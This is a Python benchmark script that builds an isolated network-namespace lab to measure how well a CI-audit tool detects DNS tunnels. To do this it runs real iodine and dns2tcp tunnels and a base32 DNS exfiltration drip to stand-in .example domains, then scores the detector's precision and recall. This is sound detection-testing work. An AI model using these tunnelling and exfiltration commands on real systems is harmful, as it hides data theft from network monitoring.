#!/usr/bin/env python3
"""A live CI job with real DNS tunnels in a netns lab, recorded and analysed: precision/recall per domain.

Usage (root; dnsmasq, iodine/iodined, dns2tcpc/dns2tcpd, dig, curl installed):
    python bench/ci_lab.py [--out DIR] [--short] [--keep]

What it builds. The lab of cicd_audit.lab, two network namespaces joined by
one veth pair, nothing else:

    runner  (the lab's client)  10.99.0.1/24  fd00:ca::1/64   the CI job, recorded here
    service (the lab's server)  10.99.0.2/24  fd00:ca::2/64   dnsmasq (the job's resolver),
                                10.99.0.13, .14                HTTP "registries" on :80,
                                                               iodined (.13), dns2tcpd (.14)

The runner has no route beyond the veth and the service namespace none beyond
its own addresses, so no packet can leave the lab. dnsmasq answers every name
of tests/fixtures/analyze/ci_hostnames.txt with the service address (A and
AAAA; TXT, SRV and PTR for the underscore and reverse names) and delegates
two unlisted domains: ``t.tunnel.example`` to iodined and
``d.dns2tcp.example`` to dns2tcpd. The runner's resolv.conf
(/etc/netns/<ns>/resolv.conf) points at dnsmasq.

The job (this file with ``--job``, run under ``cicd-audit record --iface
<runner veth> --``, in the lab's cgroup): getaddrinfo and dig for every CI host name, HTTP
downloads from the registry hosts over IPv4 and IPv6, ``pip download`` of
wheels from the fake PyPI (pypi.org / files.pythonhosted.org), a real iodine
tunnel (-r: through the resolver only) carrying an upload and a download over
its tun interface, a real dns2tcp tunnel carrying an upload, and a slow base32
query drip (``<base32>.<n>.x.drip.example``, one query every few seconds,
answered with an address nobody connects to). Then ``cicd-audit analyze``'s
library runs on the recorded logs.

Ground truth: ``tunnel.example``, ``dns2tcp.example`` and ``drip.example``
are the positives; every other registered domain the job looked up is a
negative. Output: a JSON result (``--out``/result.json and stdout's last
line) and a Markdown table.

Overhead and limits: a full run takes ~4 minutes (the drip is the slowest
part: 40 queries, 5 s apart), ``--short`` ~1.5 minutes (12 queries, 2 s
apart, smaller transfers). Every loop is bounded in count and time; every
step has a timeout. Namespaces, /etc/netns/<ns>/, the cgroup and every
process started are removed in ``finally``, also on errors and SIGTERM; what a
killed run left (dead pid in the name) is removed by the next lab.
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import io
import json
import os
import random
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from pathlib import Path

from cicd_audit.lab import V4, V6, Lab, server_v4

REPO = Path(__file__).resolve().parents[1]
HOSTNAMES = REPO / "tests" / "fixtures" / "analyze" / "ci_hostnames.txt"

SVC4, SVC6 = V4[1], V6[1]          # the service ("internet") side: the lab's server
IODINED4, DNS2TCPD4 = server_v4(13), server_v4(14)
TUN_PREFIX = "10.97.1."            # iodine's tunnel network (server .1, first client .2)
TUN_NET = f"{TUN_PREFIX}1/27"
TUN_SERVER = f"{TUN_PREFIX}1"
DRIP_ANSWER = server_v4(66)        # nobody listens there; the job never connects to it
SINK_PORT = 9000                   # TCP sink in the service namespace (tunnel uploads land here)
HTTP_PORT = 80

IODINE_DOMAIN = "t.tunnel.example"
DNS2TCP_DOMAIN = "d.dns2tcp.example"
DRIP_DOMAIN = "x.drip.example"
#: ground truth: registered domain -> what moves data through it
TRUTH = {"tunnel.example": "iodine", "dns2tcp.example": "dns2tcp", "drip.example": "base32 drip"}

#: hosts the job downloads files from (the rest are only looked up)
DOWNLOAD_HOSTS = [
    "registry.npmjs.org", "registry.yarnpkg.com", "repo.maven.apache.org", "repo1.maven.org", "plugins.gradle.org",
    "proxy.golang.org", "sum.golang.org", "static.crates.io", "index.crates.io", "rubygems.org",
    "objects.githubusercontent.com", "codeload.github.com", "raw.githubusercontent.com", "deb.debian.org",
    "archive.ubuntu.com", "security.ubuntu.com", "registry-1.docker.io", "production.cloudflare.docker.com",
    "storage.googleapis.com", "dl.google.com", "nodejs.org", "static.rust-lang.org", "cdn.jsdelivr.net",
    "3f9c1a7e2b4d5c6f.cdn.jsdelivr.net", "d31qbv1cthcecs.cloudfront.net", "ghcr.io", "pkg-containers.githubusercontent.com",
]
WHEELS = ["labpkg-requests", "labpkg-urllib3", "labpkg-certifi", "labpkg-idna", "labpkg-pytest", "labpkg-numpy"]

PROFILES = {
    # drip queries, drip gap (s), iodine up/down bytes, dns2tcp up bytes, registry blob bytes
    "full": {"drip_queries": 40, "drip_gap": 5.0, "iodine_up": 16_000, "iodine_down": 48_000, "dns2tcp_up": 16_000,
             "blob": 200_000},
    "short": {"drip_queries": 12, "drip_gap": 2.0, "iodine_up": 3_000, "iodine_down": 8_000, "dns2tcp_up": 3_000,
              "blob": 50_000},
}



def log(msg: str) -> None:
    print(f"[ci_lab {time.strftime('%H:%M:%S')}] {msg}", file=sys.stderr, flush=True)


def ci_hostnames() -> list[str]:
    return [ln.strip() for ln in HOSTNAMES.read_text().splitlines() if ln.strip() and not ln.startswith("#")]


# ---------------------------------------------------------------------------------------------
# the lab's services


def start_logged(lab: Lab, work: Path, name: str, argv: list[str]) -> subprocess.Popen:
    """A server in the service namespace, its output in work/<name>.log."""
    return lab.popen(lab.server_ns, argv, stdout=open(work / f"{name}.log", "wb"), stderr=subprocess.STDOUT)


def start_services(lab: Lab, work: Path, names: list[str]) -> None:
    """dnsmasq, the registries, the sink and the tunnel servers, each ready when this returns."""
    webroot = work / "www"
    make_webroot(webroot, PROFILE["blob"])
    lab.start_dnsmasq(dnsmasq_answers(), dnsmasq_records(names), stderr=open(work / "dnsmasq.log", "wb"))
    lab.start_http(HTTP_PORT, (SVC4, SVC6), webroot)
    start_logged(lab, work, "sink", [sys.executable, __file__, "--sink", "0.0.0.0", str(SINK_PORT)])
    start_logged(lab, work, "iodined", ["iodined", "-f", "-c", "-l", IODINED4, "-p", "53", "-P", "cilabpass",
                                        "-d", "cildns0", TUN_NET, IODINE_DOMAIN])
    d2t = work / "dns2tcpd.conf"
    d2t.write_text(f"listen = {DNS2TCPD4}\nport = 53\nuser = nobody\ndomain = {DNS2TCP_DOMAIN}\n"
                   f"resources = sink:{SVC4}:{SINK_PORT}\n")
    start_logged(lab, work, "dns2tcpd", ["dns2tcpd", "-F", "-f", str(d2t)])
    lab.wait_listening("-ltn", f":{SINK_PORT}", timeout=20)
    lab.wait_listening("-lun", f"{IODINED4}:53", timeout=20)
    lab.wait_listening("-lun", f"{DNS2TCPD4}:53", timeout=20)
    # the tunnel's HTTP server lives on iodined's tun address
    lab.wait_until("iodined's tun device",
                   lambda: TUN_SERVER in lab.run(lab.server_ns, ["ip", "-4", "addr"]).stdout, timeout=20)
    lab.start_http(8000, (TUN_SERVER,), webroot)


def dnsmasq_answers() -> dict[str, tuple[str, ...]]:
    # the drip's names, and the jsDelivr cache keys under their parent
    return {"drip.example": (DRIP_ANSWER,), "jsdelivr.net": (SVC4, SVC6)}


def dnsmasq_records(names: list[str]) -> list[str]:
    """dnsmasq.conf lines: the two delegated tunnel domains, then a record for every CI host name."""
    lines = ["cache-size=1000", "log-facility=-",
             f"server=/{IODINE_DOMAIN}/{IODINED4}", f"server=/{DNS2TCP_DOMAIN}/{DNS2TCPD4}"]
    for n in names:
        if n.endswith(".arpa"):
            lines.append(f"ptr-record={n},dns.google")
        elif "._tcp." in n:
            lines.append(f"srv-host={n},svc.{n.split('._tcp.')[1]},443")
        elif n.startswith("_") or "._" in n:
            lines.append(f'txt-record={n},"v=lab1; token={hashlib.sha1(n.encode()).hexdigest()[:20]}"')
        else:
            lines.append(f"host-record={n},{SVC4},{SVC6}")
    return lines


def _wheel(name: str, version: str) -> tuple[str, bytes]:
    dist = name.replace("-", "_")
    fn = f"{dist}-{version}-py3-none-any.whl"
    buf = io.BytesIO()
    files = {
        f"{dist}/__init__.py": f"__version__ = '{version}'\n".encode(),
        f"{dist}-{version}.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode(),
        f"{dist}-{version}.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: ci_lab\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(f"{p},sha256={base64.urlsafe_b64encode(hashlib.sha256(b).digest()).decode().rstrip('=')},{len(b)}\n"
                     for p, b in files.items()) + f"{dist}-{version}.dist-info/RECORD,,\n"
    with zipfile.ZipFile(buf, "w") as z:
        for p, b in files.items():
            z.writestr(p, b)
        z.writestr(f"{dist}-{version}.dist-info/RECORD", record)
    return fn, buf.getvalue()


def make_webroot(root: Path, blob: int) -> None:
    rng = random.Random(214)
    (root / "blobs").mkdir(parents=True, exist_ok=True)
    for i in range(4):
        (root / "blobs" / f"artifact-{i}.tgz").write_bytes(rng.randbytes(blob))
    (root / "blobs" / "tunnel-down.bin").write_bytes(rng.randbytes(PROFILE["iodine_down"]))
    for name in WHEELS:
        fn, data = _wheel(name, "1.0.0")
        digest = hashlib.sha256(data).hexdigest()
        pkg_dir = root / "packages" / digest[:2] / digest[2:4]
        pkg_dir.mkdir(parents=True, exist_ok=True)
        (pkg_dir / fn).write_bytes(data)
        simple = root / "simple" / name
        simple.mkdir(parents=True, exist_ok=True)
        url = f"http://files.pythonhosted.org/packages/{digest[:2]}/{digest[2:4]}/{fn}#sha256={digest}"
        (simple / "index.html").write_text(f'<!DOCTYPE html><html><body><a href="{url}">{fn}</a></body></html>\n')
    (root / "index.html").write_text("lab registry\n")


# ---------------------------------------------------------------------------------------------
# the job (runs inside the runner namespace, under the recorder)


def run_job(cfg: dict) -> int:
    """The CI job. Every step is bounded; failures are logged and counted, never fatal."""
    prof = cfg["profile"]
    work = Path(cfg["work"])
    env = {k: v for k, v in os.environ.items() if "proxy" not in k.lower()}
    failures: list[str] = []
    procs: list[subprocess.Popen] = []

    def step(name, argv, timeout=60, **kw):
        try:
            r = subprocess.run(argv, timeout=timeout, capture_output=True, env=env, **kw)
            if r.returncode != 0:
                failures.append(f"{name}: exit {r.returncode}: {r.stderr[-300:]!r}")
            return r
        except subprocess.TimeoutExpired:
            failures.append(f"{name}: timeout {timeout}s")
            return None

    stop = threading.Event()

    def drip():
        """Slow base32 exfiltration: one query every drip_gap seconds, drip_queries in all."""
        secret = random.Random(5).randbytes(15 * prof["drip_queries"])
        for i in range(prof["drip_queries"]):
            if stop.is_set():
                break
            label = base64.b32encode(secret[i * 15:(i + 1) * 15]).decode().rstrip("=").lower()
            step("drip", ["dig", "+short", "+tries=1", "+time=2", f"{label}.{i}.{DRIP_DOMAIN}", "A"], timeout=10)
            stop.wait(prof["drip_gap"])

    t_drip = threading.Thread(target=drip, daemon=True)
    t_drip.start()
    try:
        names = ci_hostnames()
        # 1. ordinary lookups: what software does (getaddrinfo: A + AAAA), plus record types tools ask for
        for n in names:
            if n.endswith(".arpa"):
                step("ptr", ["dig", "+short", "+tries=1", n, "PTR"], timeout=10)
            elif "._tcp." in n:
                step("srv", ["dig", "+short", "+tries=1", n, "SRV"], timeout=10)
            elif n.startswith("_") or "._" in n:
                step("txt", ["dig", "+short", "+tries=1", n, "TXT"], timeout=10)
            else:
                try:
                    socket.getaddrinfo(n, 443, type=socket.SOCK_STREAM)
                except OSError as exc:
                    failures.append(f"getaddrinfo {n}: {exc}")
        # 2. registry downloads, IPv4 and IPv6
        for i, host in enumerate(DOWNLOAD_HOSTS):
            fam = "-6" if i % 3 == 0 else "-4"
            step("curl", ["curl", "-sS", fam, "--max-time", "20", "-o", "/dev/null",
                          f"http://{host}/blobs/artifact-{i % 4}.tgz"], timeout=30)
        # 3. pip download from the PyPI lookalike
        dl = work / "pip-download"
        step("pip", [sys.executable, "-m", "pip", "download", "--no-deps", "--no-cache-dir", "--disable-pip-version-check",
                     "--index-url", "http://pypi.org/simple/", "--trusted-host", "pypi.org",
                     "--trusted-host", "files.pythonhosted.org", "-d", str(dl), *WHEELS], timeout=120)
        got = sorted(p.name for p in dl.glob("*.whl")) if dl.exists() else []
        if len(got) != len(WHEELS):
            failures.append(f"pip downloaded {len(got)} of {len(WHEELS)} wheels")

        # 4. iodine: IP over DNS through the resolver (-r: never raw UDP to the server)
        io_log = open(work / "iodine.log", "wb")
        procs.append(subprocess.Popen(["iodine", "-f", "-r", "-P", "cilabpass", "-d", "cildns0", SVC4, IODINE_DOMAIN],
                                      stdout=io_log, stderr=subprocess.STDOUT, env=env, start_new_session=True))
        deadline = time.monotonic() + 60
        up = False
        while time.monotonic() < deadline and procs[-1].poll() is None:
            r = subprocess.run(["ip", "-4", "addr", "show", "dev", "cildns0"], capture_output=True, text=True)
            if r.returncode == 0 and f"inet {TUN_PREFIX}" in r.stdout:
                up = True
                break
            time.sleep(0.5)
        if up:
            step("iodine-download", ["curl", "-sS", "--max-time", "120", "-o", str(work / "via-iodine.bin"),
                                     f"http://{TUN_SERVER}:8000/blobs/tunnel-down.bin"], timeout=130)
            got = (work / "via-iodine.bin").stat().st_size if (work / "via-iodine.bin").exists() else 0
            if got != prof["iodine_down"]:
                failures.append(f"iodine-download: {got} of {prof['iodine_down']} bytes")
            send_bytes(TUN_SERVER, SINK_PORT, prof["iodine_up"], failures, "iodine-upload", timeout=120)
        else:
            failures.append("iodine: tunnel did not come up in 60 s")

        # 5. dns2tcp: TCP over DNS (TXT) to the sink
        d2_log = open(work / "dns2tcpc.log", "wb")
        procs.append(subprocess.Popen(["dns2tcpc", "-z", DNS2TCP_DOMAIN, "-r", "sink", "-l", "9900", SVC4],
                                      stdout=d2_log, stderr=subprocess.STDOUT, env=env, start_new_session=True))
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline and procs[-1].poll() is None:
            if ":9900" in subprocess.run(["ss", "-H", "-ltn"], capture_output=True, text=True).stdout:
                break
            time.sleep(0.3)
        send_bytes("127.0.0.1", 9900, prof["dns2tcp_up"], failures, "dns2tcp-upload", timeout=120)

        # 6. the job ends when the drip has finished (bounded: its own count x gap, plus slack)
        t_drip.join(prof["drip_queries"] * (prof["drip_gap"] + 12) + 10)
    finally:
        stop.set()
        for p in procs:
            if p.poll() is None:
                try:
                    os.killpg(p.pid, signal.SIGTERM)
                except ProcessLookupError:
                    pass
        for p in procs:
            try:
                p.wait(5)
            except subprocess.TimeoutExpired:
                os.killpg(p.pid, signal.SIGKILL)
                p.wait(5)
        (work / "job.json").write_text(json.dumps({"failures": failures}, indent=1))
    return 0


def send_bytes(host, port, n, failures, name, timeout=60):
    """Send n random bytes to host:port (after a 12-byte length header); the sink answers with the count.

    No half-close: dns2tcp tears the session down on the client's FIN, before
    the tunnel has delivered the data.
    """
    data = random.Random(n).randbytes(n)
    try:
        with socket.create_connection((host, port), timeout=timeout) as s:
            s.settimeout(timeout)
            s.sendall(b"%12d" % n + data)
            reply = b""
            deadline = time.monotonic() + timeout
            while time.monotonic() < deadline:
                chunk = s.recv(64)
                if not chunk:
                    break
                reply += chunk
                if b"\n" in reply:
                    break
        if reply.strip() != str(n).encode():
            failures.append(f"{name}: sink reported {reply[:40]!r}, expected {n}")
    except OSError as exc:
        failures.append(f"{name}: {exc}")


def run_sink(host: str, port: int) -> int:
    """TCP sink: read until EOF, answer with the byte count. Serves until killed (the lab kills it)."""
    srv = socket.create_server((host, port), reuse_port=False)
    srv.settimeout(1.0)
    deadline = time.monotonic() + 3600  # bounded even if nobody kills it
    while time.monotonic() < deadline:
        try:
            c, _ = srv.accept()
        except socket.timeout:
            continue

        def serve(c=c):
            with c:
                c.settimeout(300)
                buf = b""
                try:
                    while len(buf) < 12:  # the length header
                        b = c.recv(12 - len(buf))
                        if not b:
                            return
                        buf += b
                    want, total = int(buf), 0
                    while total < want:
                        b = c.recv(min(65536, want - total))
                        if not b:
                            break
                        total += len(b)
                    c.sendall(str(total).encode() + b"\n")
                    c.recv(1)  # wait for the sender to close
                except (OSError, ValueError):
                    pass

        threading.Thread(target=serve, daemon=True).start()
    return 0


# ---------------------------------------------------------------------------------------------
# measure


def measure(session: Path) -> dict:
    from cicd_audit.analyzers import analyze, load_logs

    r = analyze(load_logs(session))
    f = r.findings
    flagged = set(f.loc[f["analyzer"] == "dns_tunnel", "indicator"])
    domains = set(r.lookups["registered_domain"]) - {""}
    rows = [(d, d in TRUTH, d in flagged) for d in sorted(domains)]
    tp = sum(1 for _, p, x in rows if p and x)
    fp = sum(1 for _, p, x in rows if not p and x)
    fn = sum(1 for _, p, x in rows if p and not x)
    tn = sum(1 for _, p, x in rows if not p and not x)
    tun = f[f["analyzer"] == "dns_tunnel"]
    return {
        "dns_rows": int(r.summary["dns_queries"]), "conn_rows": int(r.summary["connections"]),
        "registered_domains": len(domains), "positives": tp + fn, "negatives": fp + tn,
        "tp": tp, "fp": fp, "fn": fn, "tn": tn,
        "precision": round(tp / (tp + fp), 4) if tp + fp else None,
        "recall": round(tp / (tp + fn), 4) if tp + fn else None,
        "missed": sorted(d for d, p, x in rows if p and not x),
        "false_alarms": sorted(d for d, p, x in rows if not p and x),
        "truth_seen": sorted(d for d in TRUTH if d in domains),
        "tunnel_findings": [
            {"indicator": t.indicator, "severity": str(t.severity), "summary": t.summary,
             "tool": TRUTH.get(t.indicator, "-")} for t in tun.itertuples()
        ],
        "other_findings": [
            {"analyzer": str(t.analyzer), "indicator": t.indicator, "severity": str(t.severity), "summary": t.summary}
            for t in f[f["analyzer"] != "dns_tunnel"].itertuples()
        ],
        "findings_by_severity": r.summary["findings_by_severity"],
    }


def main(argv=None) -> int:
    global PROFILE
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out", help="keep the session and results here (default: a temporary directory, removed)")
    ap.add_argument("--short", action="store_true", help="a shorter job (for the root-tier test)")
    ap.add_argument("--keep", action="store_true", help="keep the temporary directory")
    ap.add_argument("--recorder", help="record with this command instead of the installed cicd-audit "
                    "(e.g. 'env PYTHONPATH=/opt/pinned python3 -m cicd_audit.cli')")
    ap.add_argument("--job", help=argparse.SUPPRESS)
    ap.add_argument("--sink", nargs=2, help=argparse.SUPPRESS)
    a = ap.parse_args(argv)
    if a.sink:
        return run_sink(a.sink[0], int(a.sink[1]))
    if a.job:
        cfg = json.loads(Path(a.job).read_text())
        PROFILE = cfg["profile"]
        return run_job(cfg)

    if os.geteuid() != 0:
        print("ci_lab.py: needs root (network namespaces, the recorder)", file=sys.stderr)
        return 2
    missing = [t for t in ("dnsmasq", "iodine", "iodined", "dns2tcpc", "dns2tcpd", "dig", "curl", "ss")
               if not shutil.which(t) and not Path("/usr/sbin", t).exists()]
    if missing:
        print(f"ci_lab.py: missing tools: {', '.join(missing)} (apt-get install dnsmasq iodine dns2tcp dnsutils curl)",
              file=sys.stderr)
        return 2
    PROFILE = PROFILES["short" if a.short else "full"]
    out = Path(a.out) if a.out else Path(tempfile.mkdtemp(prefix="ci-lab-"))
    out.mkdir(parents=True, exist_ok=True)
    work = out / "work"
    work.mkdir(exist_ok=True)
    session = out / "session"
    if session.exists():
        shutil.rmtree(session)
    lab = Lab()
    old_term = signal.signal(signal.SIGTERM, lambda *_: (_ for _ in ()).throw(KeyboardInterrupt()))
    t0 = time.monotonic()
    try:
        for address in (IODINED4, DNS2TCPD4):
            lab.add_server_address(address)
        lab.set_resolver(lab.client_ns, options="timeout:2 attempts:2")
        try:
            start_services(lab, work, ci_hostnames())
        except RuntimeError as exc:
            raise RuntimeError(f"{exc} (the services' logs are in {work})") from exc
        log(f"lab up: {lab.client_ns} <-> {lab.server_ns}; recording the job")
        cfg = work / "job.cfg.json"
        cfg.write_text(json.dumps({"profile": PROFILE, "work": str(work)}))
        rec = a.recorder.split() if a.recorder else None
        budget = 120 + PROFILE["drip_queries"] * (PROFILE["drip_gap"] + 12) + 300
        r = lab.record(session, [sys.executable, os.path.abspath(__file__), "--job", str(cfg)], cli=rec,
                       timeout=budget)
        job = json.loads((work / "job.json").read_text()) if (work / "job.json").exists() else {"failures": ["no job.json"]}
        log(f"job finished in {time.monotonic() - t0:.0f} s (record exit {r.returncode}); "
            f"{len(job['failures'])} step failure(s)")
        if r.returncode != 0:
            raise RuntimeError(f"cicd-audit record failed ({r.returncode}):\n{r.stdout[-2000:]}\n{r.stderr[-2000:]}")
    finally:
        lab.close()
        signal.signal(signal.SIGTERM, old_term)
    result = measure(session)
    result.update({"profile": "short" if a.short else "full", "job_failures": job["failures"],
                   "wall_s": round(time.monotonic() - t0, 1), "session": str(session)})
    (out / "result.json").write_text(json.dumps(result, indent=2))
    print(table(result), file=sys.stderr)
    print(json.dumps(result))
    if not a.out and not a.keep:
        shutil.rmtree(out, ignore_errors=True)
    return 0


def table(r: dict) -> str:
    lines = ["| set | domains | positives | TP | FP | FN | precision | recall |", "|---|---|---|---|---|---|---|---|",
             f"| live netns CI job ({r['profile']}) | {r['registered_domains']} | {r['positives']} | {r['tp']} | "
             f"{r['fp']} | {r['fn']} | {r['precision']} | {r['recall']} |"]
    for t in r["tunnel_findings"]:
        lines.append(f"  {t['severity']:<8} {t['indicator']:<18} ({t['tool']}) {t['summary']}")
    for t in r["other_findings"]:
        lines.append(f"  {t['severity']:<8} {t['analyzer']} {t['indicator']}: {t['summary']}")
    if r["job_failures"]:
        lines.append("job step failures: " + "; ".join(r["job_failures"][:10]))
    return "\n".join(lines)


PROFILE = PROFILES["full"]

if __name__ == "__main__":
    sys.exit(main())
